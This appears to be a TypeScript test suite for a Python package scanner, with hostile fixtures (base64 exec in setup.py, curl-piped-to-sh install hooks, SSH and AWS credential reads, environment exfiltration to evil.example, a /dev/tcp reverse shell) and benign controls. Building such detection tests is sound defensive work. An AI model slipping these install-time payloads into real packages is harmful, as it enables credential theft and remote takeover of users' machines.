import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { SEVERITY_RANK, type Finding } from '../../src/scan/finding.js';
import { scanDistribution } from '../../src/scan/scan.js';
import { sdist, wheel } from './packages.js';

const SETUP_OK = `from setuptools import setup\nsetup(name="demo", version="1.0")\n`;

interface Case {
  name: string;
  hostile: boolean;
  build: () => Promise<{ filename: string; bytes: Uint8Array }> | { filename: string; bytes: Uint8Array };
  /** The rule that must fire (hostile cases). */
  rule?: string;
}

const CASES: Case[] = [
  // --- hostile: what malicious PyPI packages actually do
  {
    name: 'setup.py that decodes and executes a base64 payload',
    hostile: true,
    rule: 'exec-decoded',
    build: () => sdist('demo', '1.0', { 'setup.py': `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n${SETUP_OK}` }),
  },
  {
    name: 'setup.py that executes a payload decoded through an alias and a variable',
    hostile: true,
    rule: 'exec-decoded',
    build: () => sdist('demo', '1.0', { 'setup.py': `import zlib as z, base64 as b\ncode = z.decompress(b.b64decode("eJw="))\nrun = code\nexec(run)\n${SETUP_OK}` }),
  },
  {
    name: 'setup.py that downloads and executes code',
    hostile: true,
    rule: 'exec-downloaded',
    build: () => sdist('demo', '1.0', { 'setup.py': `from urllib.request import urlopen\nexec(urlopen("http://evil.example/x.py").read())\n${SETUP_OK}` }),
  },
  {
    name: 'custom install command that pipes curl into sh',
    hostile: true,
    rule: 'process-download',
    build: () =>
      sdist('demo', '1.0', {
        'setup.py': `import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        os.system("curl -s http://evil.example/p | sh")\n        install.run(self)\nsetup(name="demo", cmdclass={"install": Post})\n`,
      }),
  },
  {
    name: 'payload hidden behind a local import from setup.py',
    hostile: true,
    rule: 'network',
    build: () =>
      sdist('demo', '1.0', {
        'setup.py': `import helpers\n${SETUP_OK}`,
        'helpers/__init__.py': 'from .net import beacon\n',
        'helpers/net.py': 'import socket\ns = socket.create_connection(("evil.example", 443))\n',
      }),
  },
  {
    name: 'payload in a second, non-Python file executed by setup.py',
    hostile: true,
    rule: 'exec-decoded',
    build: () =>
      sdist('demo', '1.0', {
        'setup.py': `exec(open("data/blob.txt").read())\n${SETUP_OK}`,
        'data/blob.txt': `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n`,
      }),
  },
  {
    name: 'wheel __init__ that steals SSH keys at import time',
    hostile: true,
    rule: 'credentials',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import os\ndata = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n` }),
  },
  {
    name: 'wheel __init__ that exfiltrates the environment via requests',
    hostile: true,
    rule: 'exfiltration',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import os, requests\nrequests.post("https://evil.example", data=dict(os.environ))\n` }),
  },
  {
    name: 'import-time function called from module level that spawns a reverse shell',
    hostile: true,
    rule: 'process-download',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import subprocess\ndef _init():\n    subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"])\n_init()\n` }),
  },
  {
    name: 'a .pth file that runs decoded code at every interpreter start',
    hostile: true,
    rule: 'exec-decoded',
    build: () => wheel('demo', '1.0', { 'demo.pth': `import base64; exec(base64.b64decode("cHJpbnQoMSk="))\n`, 'demo/__init__.py': '' }),
  },
  {
    name: 'setup.py that writes into the shell profile',
    hostile: true,
    rule: 'write-outside',
    build: () => sdist('demo', '1.0', { 'setup.py': `import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("alias sudo=evil")\n${SETUP_OK}` }),
  },
  {
    name: 'chr chain obfuscation evaluated at import time',
    hostile: true,
    rule: 'exec-decoded',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `eval(chr(112)+chr(114)+chr(105)+chr(110)+chr(116)+chr(40)+chr(41))\n` }),
  },
  {
    name: 'getattr on builtins with a computed name',
    hostile: true,
    rule: 'obfuscation',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import builtins\nname = "ex" + "ec"\ngetattr(builtins, name)("print(1)")\n` }),
  },
  {
    name: 'in-tree build backend that reads AWS credentials',
    hostile: true,
    rule: 'credentials',
    build: () =>
      sdist('demo', '1.0', {
        'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
        '_build/backend.py': 'import pathlib\nkeys = pathlib.Path.home().joinpath(".aws/credentials").read_text()\ndef build_wheel(*a): pass\n',
      }),
  },
  {
    name: 'reversed string fed to exec',
    hostile: true,
    rule: 'exec-decoded',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `s = ")1(tnirp"\nexec(s[::-1])\n` }),
  },
  {
    name: 'import-time socket connect through a variable',
    hostile: true,
    rule: 'network',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import socket\ns = socket.socket()\ns.connect(("evil.example", 4444))\n` }),
  },
  {
    name: 'payload scheduled with atexit.register at import time',
    hostile: true,
    rule: 'network',
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import atexit, urllib.request\ndef _beacon():\n    urllib.request.urlopen("http://evil.example/b")\natexit.register(_beacon)\n` }),
  },
  // --- benign: what honest packages do
  {
    name: 'a module probing IPv6 with a local socket at import time',
    hostile: false,
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': `import socket\ndef _has_ipv6():\n    sock = socket.socket(socket.AF_INET6)\n    sock.bind(("::1", 0))\nHAS_IPV6 = _has_ipv6()\n` }),
  },
  { name: 'a plain setup.py', hostile: false, build: () => sdist('demo', '1.0', { 'setup.py': SETUP_OK, 'demo/__init__.py': '__version__ = "1.0"\n' }) },
  {
    name: 'setup.py that reads its version with exec(open(...).read())',
    hostile: false,
    build: () => sdist('demo', '1.0', { 'setup.py': `about = {}\nexec(open("demo/__about__.py").read(), about)\n${SETUP_OK}`, 'demo/__about__.py': '__version__ = "1.0"\n' }),
  },
  {
    name: 'a library whose functions use the network only when called',
    hostile: false,
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': 'import requests\nfrom .api import fetch\n', 'demo/api.py': 'import requests\ndef fetch(url):\n    return requests.get(url).json()\n' }),
  },
  {
    name: 'a library that runs git in a function and a subprocess under __main__',
    hostile: false,
    build: () => wheel('demo', '1.0', { 'demo/__init__.py': 'import subprocess\ndef rev():\n    return subprocess.check_output(["git", "rev-parse", "HEAD"])\nif __name__ == "__main__":\n    print(rev())\n' }),
  },
  {
    name: 'setup.py with a build_ext command (not an install override)',
    hostile: false,
    build: () => sdist('demo', '1.0', { 'setup.py': `from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        build_ext.run(self)\nsetup(name="demo", cmdclass={"build_ext": B})\n` }),
  },
  {
    name: 'a module writing a cache under the build directory',
    hostile: false,
    build: () => sdist('demo', '1.0', { 'setup.py': `import os\nwith open(os.path.join("build", "stamp.txt"), "w") as f:\n    f.write("ok")\n${SETUP_OK}` }),
  },
];

async function findingsOf(c: Case): Promise<Finding[]> {
  const { filename, bytes } = await c.build();
  return (await scanDistribution(bytes, filename)).findings.filter((f) => f.assessor === 'install-code');
}

const flagged = (fs: readonly Finding[]): boolean => fs.some((f) => SEVERITY_RANK[f.severity] >= SEVERITY_RANK.medium);

describe('install-time code assessor', () => {
  for (const c of CASES) {
    it(`${c.hostile ? 'flags' : 'does not flag'} ${c.name}`, async () => {
      const fs = await findingsOf(c);
      if (c.hostile) {
        assert.ok(fs.some((f) => f.rule === c.rule), `expected rule ${c.rule}, got ${JSON.stringify(fs.map((f) => f.rule))}`);
        const hit = fs.find((f) => f.rule === c.rule)!;
        assert.ok(hit.file !== undefined && hit.line !== undefined && hit.line > 0, 'a finding names its file and line');
      } else {
        assert.equal(flagged(fs), false, JSON.stringify(fs.map((f) => `${f.severity} ${f.rule} ${f.file}:${f.line}`)));
      }
    });
  }

  it('measures precision and recall over the labelled set (medium or worse counts as flagged)', async (t) => {
    let tp = 0;
    let fp = 0;
    let fn = 0;
    for (const c of CASES) {
      const f = flagged(await findingsOf(c));
      if (c.hostile && f) tp++;
      else if (c.hostile) fn++;
      else if (f) fp++;
    }
    const precision = tp / (tp + fp);
    const recall = tp / (tp + fn);
    t.diagnostic(`install-code: ${CASES.length} cases, precision ${precision.toFixed(2)}, recall ${recall.toFixed(2)}`);
    assert.equal(recall, 1);
    assert.equal(precision, 1);
  });

  it('names the file, line and excerpt of a finding in a second file', async () => {
    const c = CASES.find((x) => x.name.startsWith('payload hidden behind a local import'))!;
    const hit = (await findingsOf(c)).find((f) => f.rule === 'network')!;
    assert.equal(hit.file, 'helpers/net.py');
    assert.equal(hit.line, 2);
    assert.match(hit.excerpt ?? '', /create_connection/);
  });

  for (const path of ['/usr/share/python-wheels/pip-23.0.1-py3-none-any.whl', '/usr/share/python-wheels/setuptools-66.1.1-py3-none-any.whl', '/usr/share/python-wheels/wheel-0.38.4-py3-none-any.whl', 'test/corpora/pep740/rfc8785-0.1.2-py3-none-any.whl', 'test/corpora/pep740/pypi_attestations-0.0.19.tar.gz']) {
    it(`reports no high-severity finding on the real distribution ${path.split('/').pop()}`, async (t) => {
      let bytes: Uint8Array;
      try {
        bytes = new Uint8Array(readFileSync(path));
      } catch {
        t.skip('not on this machine');
        return;
      }
      const fs = (await scanDistribution(bytes, path)).findings;
      t.diagnostic(`${path.split('/').pop()}: ${fs.length} finding(s): ${fs.map((f) => `${f.severity}/${f.rule}`).join(', ')}`);
      assert.deepEqual(fs.filter((f) => SEVERITY_RANK[f.severity] >= SEVERITY_RANK.high), []);
    });
  }
});
